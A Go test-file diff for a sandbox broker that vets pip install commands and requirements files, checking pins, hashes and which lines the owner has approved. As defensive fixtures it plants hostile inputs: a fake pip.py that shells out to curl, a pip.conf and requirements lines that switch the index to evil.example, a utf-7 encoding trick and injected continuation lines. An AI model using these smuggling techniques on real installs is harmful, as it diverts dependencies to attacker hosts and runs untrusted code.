@@ -6,6 +6,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"crypto/sha1" // what npm wants
+	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
 	"errors"
@@ -13,11 +14,14 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
+	"github.com/tidemark/tidemark/internal/box"
 	"github.com/tidemark/tidemark/internal/box/broker"
 	"github.com/tidemark/tidemark/internal/test/boxtest"
+	"github.com/tidemark/tidemark/internal/warrant/outgoing"
 )
 
 // market is an office whose others are registries of packages.
@@ -81,13 +85,31 @@ func (o *office) npm(mux *http.ServeMux) {
 	mux.HandleFunc("/nice/-/nice-1.0.0.tgz", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b.Bytes()) })
 }
 
-// pip offers a wheel, and a package that would have to be built.
+// pip offers wheels, one of which needs the other, and a package that would have to be built.
 func (o *office) pip(mux *http.ServeMux) {
+	o.wheel = o.packed("nice", "")
+	for name, raw := range map[string][]byte{"nice": o.wheel, "needs": o.packed("needs", "Requires-Dist: nice\n")} {
+		file := name + "-1.0-py3-none-any.whl"
+		mux.HandleFunc("/simple/"+name+"/", func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "text/html")
+			_, _ = fmt.Fprintf(w, `<a href="https://files.pythonhosted.org/%s">%s</a>`, file, file)
+		})
+		mux.HandleFunc("/"+file, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(raw) })
+	}
+	mux.HandleFunc("/simple/built/", func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = w.Write([]byte(`<a href="https://files.pythonhosted.org/built-1.0.tar.gz">built-1.0.tar.gz</a>`))
+	})
+}
+
+// packed is a wheel of a module that holds nothing.
+func (o *office) packed(name, needs string) []byte {
 	var b bytes.Buffer
 	z := zip.NewWriter(&b)
+	about := name + "-1.0.dist-info/"
 	for _, f := range [][2]string{
-		{"nice.py", "x = 1\n"}, {"nice-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: nice\nVersion: 1.0\n"},
-		{"nice-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}, {"nice-1.0.dist-info/RECORD", ""},
+		{name + ".py", "x = 1\n"}, {about + "METADATA", "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\n" + needs},
+		{about + "WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}, {about + "RECORD", ""},
 	} {
 		w, err := z.Create(f[0])
 		if err == nil {
@@ -100,15 +122,7 @@ func (o *office) pip(mux *http.ServeMux) {
 	if err := z.Close(); err != nil {
 		o.t.Fatal(err)
 	}
-	mux.HandleFunc("/simple/nice/", func(w http.ResponseWriter, _ *http.Request) {
-		w.Header().Set("Content-Type", "text/html")
-		_, _ = w.Write([]byte(`<a href="https://files.pythonhosted.org/nice-1.0-py3-none-any.whl">nice-1.0-py3-none-any.whl</a>`))
-	})
-	mux.HandleFunc("/simple/built/", func(w http.ResponseWriter, _ *http.Request) {
-		w.Header().Set("Content-Type", "text/html")
-		_, _ = w.Write([]byte(`<a href="https://files.pythonhosted.org/built-1.0.tar.gz">built-1.0.tar.gz</a>`))
-	})
-	mux.HandleFunc("/nice-1.0-py3-none-any.whl", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b.Bytes()) })
+	return b.Bytes()
 }
 
 // quiet fails if anything with the capability was used for something else.
@@ -286,11 +300,123 @@ func TestInstallOfWhatRequirementsPin(t *testing.T) {
 		t.Errorf("changed: %v", err)
 	}
 	for _, line := range []string{
-		"nice", "nice>=1", "-r other.txt", "-c other.txt", "--index-url https://evil.example/", "nice @ https://evil.example/x.whl", "git+https://evil.example/x", "-e .", "./x", "nice==1.0 --global-option=x", "nice==1.0; sys_platform == 'x'",
+		"-r other.txt", "-c other.txt", "--index-url https://evil.example/", "nice @ https://evil.example/x.whl", "git+https://evil.example/x", "-e .", "./x", "nice==1.0 --global-option=x", "nice-1.0.tar.gz", "nice.whl", "nice.zip==1", "nice==1.0; x(1)",
+		"nice==1.0 \\\n-r other.txt", "ni\\\nce==1.0", "nice==$V", "nice; sys_platform == 'x' #\n-i https://evil.example/", "nice==1.0 --hash=md5:00", "nice==1.0 --hash=sha256:" + strings.Repeat("0", 64) + " -i https://evil.example/", "\xef\xbb\xbfnice==1.0", "",
 	} {
 		o.Put(filepath.Join(o.Work, "requirements/dev.txt"), line+"\n")
 		if _, err := o.prepare("pip install -r requirements/dev.txt"); !errors.Is(err, broker.ErrNotHere) {
 			t.Errorf("%s: %v", line, err)
 		}
+	}
+}
+
+// A list that says of some packages only from which version on they will do is asked about by their names, also where it is as it was, and
+// brings what they need. What it says of the system counts, and the sums that it has.
+func TestInstallOfWhatRequirementsLeaveOpen(t *testing.T) {
+	boxtest.Needs(t, "python3", "curl")
+	o := newMarket(t)
+	o.Must("/usr/bin/python3 -m pip --version || exit 77; /usr/bin/python3 -m venv .venv && ls .venv/bin/pip")
+	for i, e := range o.Env {
+		if strings.HasPrefix(e, "PATH=") {
+			o.Env[i] = "PATH=" + o.Work + "/.venv/bin:" + strings.TrimPrefix(e, "PATH=")
+		}
+	}
+	path := filepath.Join(o.Work, "requirements.txt")
+	o.Put(filepath.Join(o.Work, "pip.py"), "import os; os.system('/usr/bin/curl -sk https://pypi.org/evil/pip')\n")
+	o.Put(filepath.Join(o.Work, "pip.conf"), "[global]\nindex-url = https://evil.example/\n")
+	prepared := func(list string) *broker.Deed {
+		t.Helper()
+		o.Put(path, list)
+		o.pins = broker.Pins{"requirements.txt": blob(list)}
+		d, err := o.prepare("pip install -q -r requirements.txt")
+		if err != nil {
+			t.Fatalf("%q: %v", list, err)
+		}
+		return d
+	}
+	d := prepared("# what we use\nneeds >= 1.0, <2 # and what it needs\nabsent; sys_platform == 'none' and python_version<\"4\"\n")
+	if q := d.Question; !d.Ask || q.Host != "pypi.org" || !slices.Equal(q.Packages, []string{"needs >= 1.0, <2", "absent; sys_platform == 'none' and python_version<\"4\""}) {
+		t.Errorf("%v %+v", d.Ask, q)
+	}
+	if code, out, err := o.run(d); code != 0 || err != nil {
+		t.Fatalf("%d %v\n%s", code, err, out)
+	}
+	o.Must(".venv/bin/python -c 'import needs, nice'")
+	o.quiet("pypi.org", "files.pythonhosted.org")
+	sum := fmt.Sprintf("%x", sha256.Sum256(o.wheel))
+	if d = prepared("nice==1.0 \\\n    --hash=sha256:" + sum + " \\\n    --hash=sha256:" + strings.Repeat("0", 64) + "\n"); d.Ask || d.Question.Packages[0] != "nice==1.0" {
+		t.Errorf("%v %+v", d.Ask, d.Question)
+	}
+	o.Must(".venv/bin/python -m pip uninstall -qy nice")
+	if code, out, err := o.run(d); code != 0 || err != nil {
+		t.Fatalf("%d %v\n%s", code, err, out)
+	}
+	o.Must(".venv/bin/python -c 'import nice'")
+	if code, _, err := o.run(prepared("nice==1.0 --hash=sha256:" + strings.Repeat("0", 64) + "\n")); code == 0 || err != nil {
+		t.Errorf("its sum is another: %d %v", code, err)
+	}
+	o.quiet("pypi.org", "files.pythonhosted.org")
+	// the same bytes in another encoding, which pip would go by
+	o.Put(path, "# coding: utf-7\nnice==1.0+AAo.evil\n")
+	if d, err := o.prepare("pip install -r requirements.txt"); err == nil {
+		if code, _, _ := o.run(d); code == 0 {
+			t.Error("it was read as something else")
+		}
+	}
+	o.quiet("pypi.org", "files.pythonhosted.org")
+}
+
+// A file of requirements that was changed is no question where each of its lines is one that it had before others had a say, or a package
+// that the owner ordered in that version.
+func TestWhatVouchesForALineOfRequirements(t *testing.T) {
+	dir := t.TempDir()
+	path, old := filepath.Join(dir, "requirements.txt"), "nice==1.0\nold==1.0 --hash=sha256:"+strings.Repeat("0", 64)+"\n"
+	put := func(text string) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	put(old)
+	asked := func(v *broker.Vouch, text, line string) bool {
+		t.Helper()
+		put(text)
+		f, ok := outgoing.Plain(line)
+		if !ok {
+			t.Fatal(line)
+		}
+		b := broker.New(broker.Options{Want: box.Want{Workspace: dir}, Dir: dir, Pins: broker.Pins{"requirements.txt": blob(old)}, Vouch: v})
+		d, err := b.Prepare(t.Context(), f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return d.Ask
+	}
+	const line = "pip install -r requirements.txt"
+	v := broker.Vouching(broker.Pins{"requirements.txt": blob(old)}, dir)
+	for text, want := range map[string]bool{
+		old: false, "nice==1.0\n": false, "nice==1.1\n": true, "nice==1.0\nnew==2.0\n": true, "nice==1.0\nnice>=1\n": true,
+	} {
+		if got := asked(v, text, line); got != want {
+			t.Errorf("%q: asked %v", text, got)
+		}
+	}
+	for _, said := range []string{"pip install new==2.0", "pip install open", "pip install low>=1", "npm install nice", line} {
+		f, _ := outgoing.Plain(said)
+		v.Ordered(f)
+	}
+	for text, want := range map[string]bool{
+		"nice==1.0\nnew==2.0\n": false, "new==2.1\n": true, "open\n": true, "low>=1\n": true, "open==1\n": true, "new==2.0; python_version > '3'\n": true,
+	} {
+		if got := asked(v, text, line); got != want {
+			t.Errorf("%q: asked %v", text, got)
+		}
+	}
+	if !asked(nil, "nice==1.0\n", line) {
+		t.Error("nothing vouches for it")
+	}
+	put("worse==1.0\n") // what is not as the repository had it when the box was made vouches for nothing
+	if v := broker.Vouching(broker.Pins{"requirements.txt": blob(old)}, dir); !asked(v, "worse==1.0\n", line) {
+		t.Error("it vouches for itself")
 	}
 }
